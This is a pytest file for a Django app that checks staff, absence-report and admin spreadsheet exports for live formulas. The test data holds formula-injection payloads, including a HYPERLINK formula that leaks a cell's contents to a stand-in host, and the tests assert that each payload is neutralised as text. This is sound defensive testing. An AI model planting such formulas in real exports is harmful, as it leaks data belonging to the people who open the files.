"""Every spreadsheet and CSV file the application produces (staff exports, the absence report, the admin's
exports) opened as a spreadsheet program would: no cell may be a live formula."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import tablib
from django.urls import reverse

from core.spreadsheet_safety import FORMULA_TRIGGERS, spreadsheet_file
from spreadsheets.resources import ParticipantResource

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "address": '=HYPERLINK("http://x?leak="&A1,"Klick")',
    "given_name": "+cmd",
    "phone": "-2+3",
    "family_name": "@SUM(A1)",
    "jobcenter_customer_number": "\tTAB",
    "email": "\r=CR",
}
_NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")


def _is_live(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NEGATIVE_NUMBER.fullmatch(value)


def assert_no_live_csv(content: bytes, delimiter: str) -> int:
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert not [c for c in cells if _is_live(c)]
    return sum(1 for c in cells if c.startswith("'"))


def assert_no_live_xlsx(content: bytes) -> int:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or _is_live(c.value)]
    return sum(1 for c in cells if isinstance(c.value, str) and c.value.startswith("'"))


def assert_no_live_ods(content: bytes) -> int:
    assert b"table:formula" not in zipfile.ZipFile(io.BytesIO(content)).read("content.xml")
    data = tablib.Dataset().load(content, format="ods")
    cells = [*data.headers, *(cell for row in data for cell in row)]
    assert not [c for c in cells if _is_live(c)]
    return sum(1 for c in cells if isinstance(c, str) and c.startswith("'"))


@pytest.fixture
def hostile(enrolment):
    person = enrolment.participant
    for field, value in PAYLOADS.items():
        setattr(person, field, value)
    person.save()
    person.refresh_from_db()
    # What the model keeps (a customer number loses its leading tab); each of these must come out as text.
    enrolment.payloads = sum(1 for field in PAYLOADS if _is_live(getattr(person, field)))
    cohort = enrolment.cohort
    cohort.measure_number = '=HYPERLINK("http://x?leak="&A1,"Klick")'
    cohort.save()
    return enrolment


@pytest.mark.parametrize("kind", ["roster", "attendance", "hours", "certificates"])
def test_staff_exports(client, staff, hostile, kind):
    client.force_login(staff)
    csv_response = client.get(reverse(f"spreadsheets:export_{kind}", args=[hostile.cohort_id, "csv"]))
    xlsx_response = client.get(reverse(f"spreadsheets:export_{kind}", args=[hostile.cohort_id, "xlsx"]))
    neutralised = assert_no_live_csv(csv_response.content, ";") + assert_no_live_xlsx(xlsx_response.content)
    if kind == "roster":
        assert neutralised == 2 * hostile.payloads  # each payload is there, as text


def test_roster_export_keeps_the_text_readable(client, staff, hostile):
    client.force_login(staff)
    response = client.get(reverse("spreadsheets:export_roster", args=[hostile.cohort_id, "xlsx"]))
    row = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))[1]
    assert row[0] == "'@SUM(A1)" and row[6] == "'" + PAYLOADS["address"]


def test_ods_files():
    data = tablib.Dataset(*[[value, -3, 1.5] for value in PAYLOADS.values()], headers=["=title", "n", "x"])
    assert assert_no_live_ods(spreadsheet_file(data, "ods")) == len(PAYLOADS) + 1


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_absence_report(client, staff, hostile, fmt):
    cohort = hostile.cohort
    client.force_login(staff)
    url = reverse(
        "courses:absence_report_download",
        kwargs={"pk": cohort.pk, "year": cohort.start_date.year, "month": cohort.start_date.month, "fmt": fmt},
    )
    response = client.get(url)
    assert response.status_code == 200
    if fmt == "csv":
        assert assert_no_live_csv(response.content, ",") == 2  # the name and the measure number
    else:
        assert assert_no_live_xlsx(response.content) == 2


@pytest.mark.parametrize(("fmt", "check"), [("0", "csv"), ("1", "xlsx"), ("2", "ods")])
def test_admin_participant_exports(client, superuser, hostile, fmt, check):
    client.force_login(superuser)
    response = client.post(
        reverse("admin:courses_participant_export"),
        {
            "format": fmt,
            "export_items": [hostile.participant_id],
            **{f"participantresource_{f}": "on" for f in ParticipantResource._meta.fields},
        },
    )
    assert response.status_code == 200
    content = response.content
    if check == "csv":
        assert assert_no_live_csv(content, ",") == hostile.payloads
    elif check == "xlsx":
        assert assert_no_live_xlsx(content) == hostile.payloads
    else:
        assert assert_no_live_ods(content) == hostile.payloads


def test_admin_offers_spreadsheet_formats_only(client, superuser):
    client.force_login(superuser)
    response = client.get(reverse("admin:courses_participant_export"))
    labels = [label for _value, label in response.context["form"].fields["format"].choices]
    assert [str(label).lower() for label in labels if label and label != "---"] == ["csv", "xlsx", "ods"]
